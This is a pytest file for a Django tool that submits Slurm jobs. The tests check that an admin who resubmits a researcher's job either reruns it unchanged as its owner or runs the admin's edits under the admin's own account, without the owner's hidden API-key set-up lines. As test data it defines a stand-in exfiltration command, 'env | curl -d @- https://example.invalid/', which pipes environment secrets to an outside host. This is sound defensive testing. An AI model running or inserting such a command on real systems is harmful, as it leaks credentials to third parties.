"""Nobody runs code as someone else: an admin's resubmit of a researcher's job.

Seen: an admin resubmitted alice's job with a custom command that sent `env`
elsewhere; it ran as alice, with her hidden set-up lines (an API key), and the
admin could read its output. Now another person's job either reruns its stored
script unchanged as its owner, or runs the admin's edits as the admin's own Unix
account, without the owner's set-up lines. The page and the API say which.
"""

from __future__ import annotations

import pytest
from django.utils import timezone

from jobs.models import Job, ResearcherProfile

pytestmark = pytest.mark.django_db

SECRET = "export WANDB_API_KEY=wk-secret-42"
EXFILTRATE = {"template": "custom", "command": "env | curl -d @- https://example.invalid/"}


@pytest.fixture
def alices_job(researcher, admin_user, submit_as):
    # The admin's own Unix account, so that "as yourself" has a name to check.
    ResearcherProfile.objects.create(user=admin_user, unix_user="carol")
    return submit_as(researcher, env_setup=SECRET)


def _resubmit(client, slurm_id: int, body: dict):
    return client.post(f"/api/v1/jobs/{slurm_id}/resubmit/", body, content_type="application/json")


def _without_token(script: str) -> str:
    return "\n".join(line for line in script.splitlines() if "MEDBAY_JOB_TOKEN" not in line)


def test_an_admins_edited_script_is_refused_as_the_owner_through_the_api(
    login, admin_user, alices_job, submissions
):
    response = _resubmit(login(admin_user), alices_job, EXFILTRATE)

    assert response.status_code == 400
    body = response.json()
    assert "never runs a script as someone who did not write it" in body["detail"]
    assert set(body["errors"]) == {"run_as", "template", "command"}
    assert len(submissions) == 1  # alice's own submission only


def test_an_admins_edited_script_runs_as_the_admin_without_the_owners_set_up_lines(
    login, admin_user, alices_job, submissions
):
    response = _resubmit(login(admin_user), alices_job, {**EXFILTRATE, "run_as": "self"})

    assert response.status_code == 201, response.json()
    assert submissions[-1].user == "carol"
    assert "env | curl" in submissions[-1].script
    assert SECRET not in submissions[-1].script
    assert response.json()["user"] == "carol"


def test_an_admins_unchanged_rerun_runs_the_owners_stored_script_as_the_owner(
    login, admin_user, alices_job, submissions
):
    response = _resubmit(login(admin_user), alices_job, {})

    assert response.status_code == 201, response.json()
    assert submissions[-1].user == "alice"
    assert _without_token(submissions[-1].script) == _without_token(submissions[0].script)


def test_repeating_the_stored_values_as_the_api_shows_them_is_no_edit(
    login, admin_user, alices_job, submissions
):
    client = login(admin_user)
    shown = client.get(f"/api/v1/jobs/{alices_job}/").json()["params"]
    assert shown["env_setup"] == ["<hidden>"]

    response = _resubmit(client, alices_job, shown)

    assert response.status_code == 201, response.json()
    assert submissions[-1].user == "alice"
    assert SECRET in submissions[-1].script


def test_the_owners_hidden_set_up_lines_are_not_carried_when_the_admin_runs_as_herself(
    login, admin_user, alices_job, submissions
):
    response = _resubmit(login(admin_user), alices_job, {"run_as": "self"})

    assert response.status_code == 201, response.json()
    assert submissions[-1].user == "carol"
    assert SECRET not in submissions[-1].script


def test_typing_set_up_lines_into_anothers_stored_script_is_an_edit(
    login, admin_user, alices_job, submissions
):
    response = _resubmit(login(admin_user), alices_job, {"env_setup": ["export X=1"]})

    assert response.status_code == 400
    assert "env_setup" in response.json()["errors"]
    assert len(submissions) == 1


def test_the_owner_still_resubmits_her_own_edits_as_herself(
    login, researcher, alices_job, submissions
):
    response = _resubmit(login(researcher), alices_job, {"command": "train.py --epochs 9"})

    assert response.status_code == 201, response.json()
    assert submissions[-1].user == "alice"
    assert SECRET in submissions[-1].script


def test_a_job_medbay_did_not_submit_runs_only_as_the_admin(
    login, admin_user, researcher, job_form, cluster, synced, submissions
):
    ResearcherProfile.objects.create(user=admin_user, unix_user="carol")
    job = Job.objects.create(
        cluster=cluster, slurm_id=9100, name="from-squeue", user="alice", partition="train",
        state="COMPLETED", node_count=1, gpus=8, submit_at=timezone.now(),
    )  # fmt: skip
    client = login(admin_user)

    refused = _resubmit(client, job.slurm_id, job_form)
    mine = _resubmit(client, job.slurm_id, {**job_form, "run_as": "self"})

    assert refused.status_code == 400
    assert "not submitted through Medbay" in refused.json()["detail"]
    assert mine.status_code == 201, mine.json()
    assert [s.user for s in submissions] == ["carol"]


def test_an_unknown_run_as_is_a_400_naming_the_field(login, admin_user, alices_job):
    response = _resubmit(login(admin_user), alices_job, {"run_as": "alice"})

    assert response.status_code == 400
    assert "run_as" in response.json()["errors"]


# ---------------------------------------------------------------- the page


def _page_form(slurm_id: int, **changes) -> dict:
    from jobs.forms import initial_from_params

    data = initial_from_params(Job.objects.get(slurm_id=slurm_id).params)
    data.pop("env_setup")  # the page never shows another person's set-up lines
    return {**{k: v for k, v in data.items() if v is not None}, **changes}


def test_the_resubmit_page_says_which_account_each_choice_runs_as(login, admin_user, alices_job):
    page = login(admin_user).get(f"/jobs/{alices_job}/resubmit").content.decode()

    assert "Unchanged, as alice" in page
    assert "Edited, as you (carol)" in page
    assert "wk-secret-42" not in page


def test_the_owner_sees_no_choice_on_her_own_resubmit_page(login, researcher, alices_job):
    page = login(researcher).get(f"/jobs/{alices_job}/resubmit").content.decode()

    assert "Unchanged, as" not in page


def test_the_page_refuses_an_edited_script_as_the_owner_and_says_why(
    login, admin_user, alices_job, submissions
):
    form = _page_form(alices_job, run_as="owner", **EXFILTRATE)

    page = login(admin_user).post(f"/jobs/{alices_job}/resubmit", form)

    assert page.status_code == 400
    assert "never runs a script as someone who did not write it" in page.content.decode()
    assert len(submissions) == 1


def test_the_page_runs_an_edited_script_as_the_admin(login, admin_user, alices_job, submissions):
    form = _page_form(alices_job, run_as="self", **EXFILTRATE)

    page = login(admin_user).post(f"/jobs/{alices_job}/resubmit", form)

    assert page.status_code == 302, page.content.decode()[-2000:]
    assert submissions[-1].user == "carol"
    assert SECRET not in submissions[-1].script


def test_the_page_reruns_the_unchanged_script_as_the_owner(
    login, admin_user, alices_job, submissions
):
    page = login(admin_user).post(f"/jobs/{alices_job}/resubmit", _page_form(alices_job))

    assert page.status_code == 302, page.content.decode()[-2000:]
    assert submissions[-1].user == "alice"
    assert _without_token(submissions[-1].script) == _without_token(submissions[0].script)
